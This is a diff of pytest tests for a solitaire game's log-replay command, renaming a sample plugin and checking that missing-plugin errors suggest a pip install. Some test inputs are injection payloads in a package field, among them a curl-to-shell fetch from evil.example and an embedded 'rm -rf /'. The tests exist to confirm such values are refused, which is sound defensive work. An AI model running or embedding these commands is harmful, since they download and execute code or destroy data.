@@ -326,8 +326,8 @@ def test_another_format_is_refused() -> None:
     [
         (
             "variant",
-            {"id": "yukon", "package": "solitaire-yukon", "version": "1.0"},
-            "variant 'yukon' is not installed: pip install 'solitaire-yukon==1.0'",
+            {"id": "bakers", "package": "solitaire-bakers", "version": "1.0"},
+            "variant 'bakers' is not installed: pip install 'solitaire-bakers==1.0'",
         ),
         (
             "scoring",
@@ -339,7 +339,7 @@ def test_another_format_is_refused() -> None:
             {"id": "golden:4", "package": "solitaire-golden", "version": None},
             "redeal 'golden:4' is not installed: pip install 'solitaire-golden'",
         ),
-        ("variant", {"id": "yukon", "package": None, "version": None}, "variant 'yukon' is not installed"),
+        ("variant", {"id": "bakers", "package": None, "version": None}, "variant 'bakers' is not installed"),
     ],
 )
 def test_a_plugin_not_installed_names_the_package_to_install(
@@ -358,11 +358,11 @@ def test_a_version_0_log_of_a_plugin_not_installed_says_which() -> None:
     data["version"] = 0
     for kind in ("variant", "scoring", "redeal"):
         data["header"][kind] = data["header"][kind]["id"]
-    data["header"]["variant"] = "yukon"
+    data["header"]["variant"] = "bakers"
     with pytest.raises(log.LogError) as caught:
         log.replay(log.loads(json.dumps(data)), CATALOG)
     assert caught.value.where == "header.variant"
-    assert caught.value.problem == "variant 'yukon' is not installed"
+    assert caught.value.problem == "variant 'bakers' is not installed"
 
 
 def test_an_unknown_event_tag_is_a_clear_error() -> None:
@@ -466,9 +466,9 @@ def test_a_changed_package_or_version_alone_still_replays() -> None:
 @pytest.mark.parametrize(
     ("field", "value"),
     [
-        ("package", "solitaire-yukon-fix; curl evil.example | sh"),
+        ("package", "solitaire-bakers-fix; curl evil.example | sh"),
         ("package", "__import__('os')"),
-        ("package", "solitaire-yukon'"),
+        ("package", "solitaire-bakers'"),
         ("package", "-solitaire"),
         ("package", ""),
         ("package", "a" * 100 + " b"),
@@ -494,19 +494,19 @@ def test_a_package_or_version_that_is_not_a_name_is_refused_naming_the_field(fie
 def test_the_advice_to_install_is_a_command_to_copy(
     tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setenv("SOLITAIRE_BLOCK_PLUGINS", "yukon")
+    monkeypatch.setenv("SOLITAIRE_BLOCK_PLUGINS", "bakers")
     data = real_log()
-    data["header"]["variant"] = {"id": "yukon", "package": "solitaire-yukon-fix; curl evil.example | sh"}
+    data["header"]["variant"] = {"id": "bakers", "package": "solitaire-bakers-fix; curl evil.example | sh"}
     path = tmp_path / "evil.json"
     path.write_text(json.dumps(data), encoding="utf-8")
     assert run(["replay", str(path)]) == 2
     err = capsys.readouterr().err
-    assert err.startswith(f"{path}: header.variant.package: 'solitaire-yukon-fix; curl evil.example | sh'")
+    assert err.startswith(f"{path}: header.variant.package: 'solitaire-bakers-fix; curl evil.example | sh'")
     assert "pip" not in err and err.count("\n") == 1
-    data["header"]["variant"] = {"id": "yukon", "package": "Solitaire_Yukon.Fix", "version": "1.0.post1"}
+    data["header"]["variant"] = {"id": "bakers", "package": "Solitaire_Bakers.Fix", "version": "1.0.post1"}
     path.write_text(json.dumps(data), encoding="utf-8")
     assert run(["replay", str(path)]) == 2
-    assert capsys.readouterr().err.endswith(": pip install 'Solitaire_Yukon.Fix==1.0.post1'\n")
+    assert capsys.readouterr().err.endswith(": pip install 'Solitaire_Bakers.Fix==1.0.post1'\n")
 
 
 # -- through the command line --------------------------------------------------------------------
@@ -524,9 +524,9 @@ def _hostile_files() -> dict[str, bytes]:
         "deep": b"[" * 100_000,
         "huge-number": edited(lambda d: d["header"].__setitem__("deal", 10**400)),
         "version-3": edited(lambda d: d.__setitem__("version", 3)),
-        "yukon": edited(
+        "bakers": edited(
             lambda d: d["header"].__setitem__(
-                "variant", {"id": "yukon", "package": "solitaire-yukon", "version": "1.0"}
+                "variant", {"id": "bakers", "package": "solitaire-bakers", "version": "1.0"}
             )
         ),
         "tag-list": edited(lambda d: d["actions"][0]["events"][0].__setitem__("tag", [])),
@@ -540,7 +540,7 @@ def _hostile_files() -> dict[str, bytes]:
         "newline-in-top-level-key": edited(lambda d: d.__setitem__("a\nb", 1)),
         "newline-in-package": edited(
             lambda d: d["header"].__setitem__(
-                "variant", {"id": "yukon", "package": "solitaire-yukon\nrm -rf /", "version": "1.0"}
+                "variant", {"id": "bakers", "package": "solitaire-bakers\nrm -rf /", "version": "1.0"}
             )
         ),
         "twenty-megabytes": b" " * 20_000_000 + TEXTS[0].encode(),
@@ -568,12 +568,12 @@ def test_the_command_line_answers_one_line_and_exit_2(
 def test_the_command_line_names_the_package_to_install(
     tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setenv("SOLITAIRE_BLOCK_PLUGINS", "yukon")  # the example package may be installed
-    path = tmp_path / "yukon.json"
-    path.write_bytes(HOSTILE_FILES["yukon"])
+    monkeypatch.setenv("SOLITAIRE_BLOCK_PLUGINS", "bakers")  # the example package may be installed
+    path = tmp_path / "bakers.json"
+    path.write_bytes(HOSTILE_FILES["bakers"])
     assert run(["replay", str(path)]) == 2
     assert capsys.readouterr().err == (
-        f"{path}: header.variant: variant 'yukon' is not installed: pip install 'solitaire-yukon==1.0'\n"
+        f"{path}: header.variant: variant 'bakers' is not installed: pip install 'solitaire-bakers==1.0'\n"
     )
 
 
